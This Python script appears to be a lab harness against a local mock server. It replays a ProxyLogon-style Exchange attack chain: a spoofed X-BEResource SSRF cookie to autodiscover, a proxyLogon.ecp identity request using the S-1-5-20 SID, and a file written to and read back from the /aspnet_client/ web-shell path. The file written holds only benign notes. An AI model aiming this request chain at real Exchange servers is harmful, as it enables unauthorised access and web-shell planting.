# ruff: noqa
"""Async httpx client object for the lab server."""

import asyncio
import json
import sys

import httpx


class Lab:
    ua = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
    note = "/aspnet_client/system_web/readme_91453.txt"

    def __init__(self, port):
        self.client = httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{port}", timeout=httpx.Timeout(10.0)
        )

    def browser(self, **extra):
        h = {
            "User-Agent": self.ua,
            "x-requested-with": "XMLHttpRequest",
            "Accept": "*/*",
            "accept-language": "en-US,en;q=0.9",
            "connection": "close",
        }
        h.update(extra)
        return h

    async def probe(self):
        hs = self.browser(
            cookie="X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"
        )
        url = httpx.URL(
            "/autodiscover/autodiscover.json",
            params=[
                ("Pad", "A" * 37),
                ("Protocol", "Autodiscoverv1"),
                ("Email", "administrator@lab.invalid/mapi/nspi"),
                ("RequestId", "20200302-7720"),
            ],
        )
        r = await self.client.get(url, headers=hs)
        return r.status_code

    async def ident(self):
        r = await self.client.post(
            "/ecp/proxyLogon.ecp",
            headers=[
                ("user-agent", self.ua),
                ("msexchlogonmailbox", "S-1-5-20"),
                ("content-type", "application/json"),
                ("X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp"),
            ],
            content=json.dumps(
                dict(mailbox="administrator@lab.invalid", requestKind="identity", seq=1)
            ),
        )
        return (r.text.strip() if r.status_code == 200 else "") or "anonymous"

    async def write(self, who):
        body = "\n".join(f"note {k} of 3 for {who}" for k in range(1, 4))
        r = await self.client.post(
            self.note,
            content=body,
            headers={"user-agent": self.ua, "X-Note-Path": self.note, "Content-Type": "text/plain"},
        )
        return r.status_code

    async def check(self):
        r = await self.client.get(self.note, headers=self.browser())
        return len(r.content[:1024])

    async def run(self):
        async with self.client:
            if await self.probe() >= 500:
                return None
            who = await self.ident()
            await self.write(who)
            return await self.check()


print(json.dumps({"read_back": asyncio.run(Lab(int(sys.argv[1])).run())}, indent=4))
